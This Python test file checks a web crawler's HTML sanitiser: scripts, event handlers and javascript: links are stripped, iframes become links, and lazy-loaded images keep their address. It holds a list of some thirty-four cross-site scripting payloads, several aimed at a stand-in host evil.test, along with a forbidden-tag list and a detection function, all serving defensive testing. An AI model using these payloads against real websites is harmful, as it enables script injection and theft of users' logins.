"""What is written can be read and nothing else; images and frames are not lost to it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from crawler.document import parse, select
from crawler.formats import PostStyle, parse_post, render_post
from crawler.formats.html_body import kept_html, with_images
from crawler.formats.sanitise import is_clean, sanitise
from tests.support.samples import NOW, article
from tests.support.zones import SHANGHAI

ATTACKS = (
    "<script>alert(1)</script>", "<ScRiPt/src=//evil.test>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<a href='javascript:x'>a</a>",
    "<a href=' &#106;ava&#9;script:x'>a</a>", "<a href='data:text/html,<script>1</script>'>a</a>",
    "<a href='vbscript:x'>a</a>", "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data='data:text/html,x'></object>", "<embed src=//evil.test>", "<base href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<link rel=stylesheet href=//evil.test>",
    "<style>@import '//evil.test'</style>", "<p style='background:url(javascript:x)'>a</p>",
    "<form action=//evil.test><input name=p type=password></form>", "<p onclick=x>a</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>", "<template><script>1</script></template>",
    "<iframe src='javascript:alert(1)'></iframe>", "<a xlink:href='javascript:x'>a</a>",
    "<!--><script>alert(1)</script>-->", "<p style='position:fixed;top:0;left:0'>a</p>",
    "<textarea><script>alert(1)</script></textarea>", "<xmp><script>alert(1)</script></xmp>",
    "<button formaction=javascript:x>a</button>", "<img src='x' srcset='javascript:x'>",
)  # fmt: skip
FORBIDDEN = (
    "script, iframe, object, embed, base, meta, link, style, form, input, svg, math, template"
)
pieces = st.lists(st.sampled_from(ATTACKS) | st.text(max_size=5), max_size=5).map("".join)


def dangers(html: str) -> list[str]:
    """What could run, reach out or cover a page in a fragment."""
    found = []
    tree = parse(f"<!DOCTYPE html><html><head></head><body>{html}</body></html>")
    for node in select(tree, "*"):
        if node.tag in FORBIDDEN.split(", "):
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            scheme = "".join((value or "").split()).lower().partition(":")[0]
            if name.startswith("on") or (
                name in {"href", "src"} and scheme in {"javascript", "data", "vbscript"}
            ):
                found.append(f"{name}={value}")
            if name == "style" and ("url(" in (value or "") or "position" in (value or "")):
                found.append(f"style={value}")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("body", ["html", "verbatim", "markdown"])
def test_no_body_can_do_more_than_be_read(attack: str, body: str) -> None:
    told = article(body_html=f"<p>The text.</p>{attack}<p>More.</p>")
    post = render_post(told, style=PostStyle(zone=SHANGHAI, body=body), captured=NOW, key="k")
    text = parse_post(post.data).body

    shown = MarkdownIt("commonmark").enable("table").render(text)
    assert not dangers(shown)
    assert "The text." in shown


@given(html=pieces)
def test_sanitising_leaves_nothing_dangerous_and_is_at_rest(html: str) -> None:
    clean = sanitise(html)

    assert not dangers(clean)
    assert sanitise(clean) == clean
    assert is_clean(clean)


@pytest.mark.parametrize(
    ("frame", "link"),
    [
        ("<iframe src='https://video.test/?a=1&b=2'></iframe>",
         '<a href="https://video.test/?a=1&amp;b=2">https://video.test/?a=1&amp;b=2</a>'),
        ("<IFRAME SRC=//video.test/x></IFRAME>", '<a href="//video.test/x">//video.test/x</a>'),
        ("<iframe src='javascript:alert(1)'></iframe>", ""),
        ("<iframe></iframe>", ""),
        ("<iframe src='https://x.test/\"onload=y'></iframe>",
         '<a href="https://x.test/&quot;onload=y">https://x.test/&quot;onload=y</a>'),
    ],
)  # fmt: skip
def test_a_frame_becomes_a_link(frame: str, link: str) -> None:
    assert sanitise(f"<p>a {frame}b</p>") == f"<p>a {link}b</p>"


@pytest.mark.parametrize(
    ("image", "source"),
    [
        ("<img data-src='/a.jpg'>", "/a.jpg"),
        ("<img src='data:image/gif;base64,R0' data-original='/a.jpg'>", "/a.jpg"),
        ("<img src='/spacer.gif' data-lazy-src='/a.jpg'>", "/a.jpg"),
        ("<img src='/real.jpg' data-src='/small.jpg'>", "/real.jpg"),
        ("<img data-srcset='/s.jpg 320w, /l.jpg 1280w'>", "/l.jpg"),
        ("<img srcset='/s.jpg 1x, /l.jpg 2x'>", "/l.jpg"),
        ("<picture><source srcset='/a.webp 2x'><img></picture>", "/a.webp"),
        ("<img src='/loading.gif'><noscript><img src='/a.jpg'></noscript>", "/a.jpg"),
        ("<noscript><img src='/a.jpg'></noscript>", "/a.jpg"),
        ("<img src='/blank.gif'>", "/blank.gif"),
        ("<img src='/a.jpg'><noscript>no picture here</noscript>", "/a.jpg"),
        ("<picture><img data-alt=x src='/a.jpg'></picture>", "/a.jpg"),
        ("<picture><source data-x><img></picture>", None),
        ("<img srcset=','>", None),
    ],
)  # fmt: skip
def test_lazy_images_keep_their_address(image: str, source: str | None) -> None:
    found = select(parse(with_images(f"<p>a</p>{image}")), "img")

    assert [node.attributes.get("src") for node in found] == [source]


@pytest.mark.parametrize(
    "html",
    [
        "a [link](javascript:alert(1))", "<p>a</p>b *c* [d](javascript:e)", "<b>x</b>\n\n# y",
        "<p>one\n\n[x](javascript:y)\n\n</p>", "<pre>a\n\n    b</pre>", "<div>\n \n<p>- x</p></div>",
    ],
)  # fmt: skip
def test_markdown_readers_change_nothing_in_html_bodies(html: str) -> None:
    kept = kept_html(html)

    assert is_kept(kept)
    assert select(parse(MarkdownIt("commonmark").render(kept)), "a, h1, em, li") == []


def is_kept(html: str) -> bool:
    rendered = str(MarkdownIt("commonmark").render(html))
    return rendered.strip() == html.strip()


def test_blank_lines_between_blocks_go_and_those_of_code_stay() -> None:
    assert kept_html("<p>a</p>\n \n\n<p>b</p>") == "<p>a</p>\n<p>b</p>"
    assert kept_html("<pre>a\n\nb</pre>") == "<pre>a&#10;\nb</pre>"


@pytest.mark.parametrize("blank", ["\x1f", "\xa0", "\u3000"])
def test_a_blank_that_html_does_not_know_is_text_before_a_block(blank: str) -> None:
    assert kept_html(f"{blank}<details>a</details>").startswith("<div>")


@given(html=pieces)
def test_any_html_body_is_one_block_to_markdown(html: str) -> None:
    kept = kept_html(sanitise(html.replace("\x00", "")))

    assert not kept.strip() or is_kept(kept)


def test_a_verbatim_body_with_a_markdown_link_to_a_script_is_boxed_in() -> None:
    told = article(body_html="text [x](java&#115;cript:alert(1))")
    style = PostStyle(zone=SHANGHAI, body="verbatim")

    body = parse_post(render_post(told, style=style, captured=NOW, key="k").data).body
    assert body.startswith("<div>")
